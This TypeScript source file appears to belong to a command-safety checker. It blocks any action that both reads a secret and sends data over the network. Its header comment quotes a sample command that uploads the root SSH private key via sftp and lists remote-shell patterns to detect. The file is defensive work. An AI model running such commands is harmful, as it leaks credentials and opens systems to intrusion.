/**
 * Risk from combinations across the whole action (the command and every script it hands on):
 * a secret read and a network send anywhere together are exfiltration, blocked even when no
 * pipe connects them (`LFILE=/root/.ssh/id_rsa; sftp host` then `put $LFILE`, code that opens a
 * key and a socket). Combinations inside one command or pipeline (network → interpreter, a
 * listener handing out a shell, a shell wired to a socket) are judged where they are found.
 */
import type { Fact, Hit } from "./effects/context.ts";

/** Hits that only combinations of facts justify. */
export function judgeFacts(facts: readonly Fact[]): Hit[] {
  const secret = facts.find((fact) => fact.kind === "secret_read");
  const send = facts.find((fact) => fact.kind === "network_send");
  if (!secret || !send) return [];
  const segment = secret.segment === send.segment ? secret.segment : `${secret.segment} … ${send.segment}`;
  return [
    {
      rule: "credential_exfiltration",
      severity: "block",
      reason: `${secret.detail} is read and ${send.detail}: the secret can leave the machine`,
      segment: segment.length > 300 ? segment.slice(0, 300) : segment,
    },
  ];
}
